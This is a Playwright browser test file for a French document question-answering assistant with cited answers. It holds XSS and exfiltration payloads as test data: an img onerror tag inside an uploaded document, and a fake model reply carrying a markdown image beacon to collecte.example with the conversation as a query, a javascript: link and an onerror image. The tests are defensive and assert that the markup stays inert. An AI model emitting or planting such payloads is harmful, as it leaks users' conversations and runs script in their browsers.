"""End to end in a real browser: Debian's Chromium driven by Playwright against the running app."""

from __future__ import annotations

import os
import shutil

import pytest
from helpers import ARTIFACTS

pytestmark = [pytest.mark.browser, pytest.mark.model]

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@pytest.fixture(scope="module")
def page(app_server):
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed: .ci/run installs Debian's chromium")
        pytest.skip("chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 950})
        page.set_default_timeout(90_000)
        page.goto(app_server[0])
        yield page
        browser.close()


def ask(page, question: str) -> None:
    page.get_by_role("tab", name="Questions").click()
    page.fill("#question textarea", question)
    page.click("#ask")


def test_question_gets_a_cited_answer_whose_marker_opens_its_source(page):
    page.get_by_text("Où s'est tenu le barcamp Futurs Publics en 2016 ?").click()  # an example question
    page.click("#ask")
    marker = page.locator("#chat a.cite").first
    marker.wait_for()
    assert page.locator("#chat").get_by_text("D'après les documents").count() >= 1
    assert page.locator("#chat .status-answered").count() == 1  # the badge says at a glance: answered
    marker.click()
    selected = page.locator("#sources .source.selected")
    selected.wait_for()
    assert "Gaité lyrique" in selected.inner_text()
    assert selected.locator("mark").count() >= 1
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "answer.png"))


def test_upload_rebuild_then_ask_about_the_new_document_shown_as_text(page, tmp_path):
    document = tmp_path / "labo-ouvert.txt"
    document.write_text(
        "Le laboratoire Zéphyrine accompagne les mairies rurales depuis 2022.\n"
        'Son rapport mentionne la balise <img src=x onerror="window.__pwned=1"> telle quelle.\n',
        encoding="utf-8",
    )
    page.get_by_role("tab", name="Documents").click()
    page.locator("#upload input[type=file]").set_input_files(str(document))
    page.wait_for_timeout(1000)
    page.click("#add")
    page.locator("#status").get_by_text("labo-ouvert.txt").wait_for()
    page.click("#rebuild")
    page.locator("#status").get_by_text("added 1").wait_for()
    assert page.locator("#documents").get_by_text("labo-ouvert.txt").count() >= 1

    ask(page, "Quelles mairies le laboratoire Zéphyrine accompagne-t-il ?")
    page.locator("#sources").get_by_text("labo-ouvert.txt").first.wait_for()
    ask(page, "Que mentionne le rapport du laboratoire Zéphyrine sur la balise img ?")
    page.locator("#sources details[open]").get_by_text("onerror", exact=False).first.wait_for()
    assert page.locator("#sources img").count() == 0
    assert page.locator("#chat img[src=x]").count() == 0
    assert page.evaluate("window.__pwned") is None


def test_language_model_markup_is_shown_inert_and_fetches_nothing(app_server, tmp_path):
    from helpers import FakeChatServer, free_port

    from assistant.ui import App, launch

    reply = (
        "Le barcamp s'est tenu à la Gaité lyrique [1]. "
        "![](https://collecte.example/pixel.png?q=conversation) "
        "[cliquez ici](javascript:window.__pwned=1) <img src=https://collecte.example/x.png onerror=window.__pwned=2>"
    )
    model = FakeChatServer(reply)
    port = free_port()
    settings = app_server[1].with_(llm_url=model.url, llm_model="tiny", read_only="1")
    demo, _ = launch(App(settings), "127.0.0.1", port, prevent_thread_lock=True, quiet=True)
    outside = []
    try:
        from playwright.sync_api import sync_playwright

        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
            page = browser.new_page()
            page.set_default_timeout(90_000)
            page.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url else None)
            page.goto(f"http://127.0.0.1:{port}/")
            page.fill("#question textarea", "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
            page.click("#ask")
            page.locator("#chat").get_by_text("Gaité lyrique").first.wait_for()
            page.locator("#chat a.cite").first.wait_for()
            page.wait_for_timeout(1500)
            assert page.locator("#chat img").count() == 0
            assert page.locator("#chat a[href^='javascript']").count() == 0
            assert page.locator("#chat a:not(.cite)").count() == 0  # the only links are our markers
            assert page.evaluate("window.__pwned") is None
            browser.close()
    finally:
        demo.close()
        model.close()
    assert outside == []
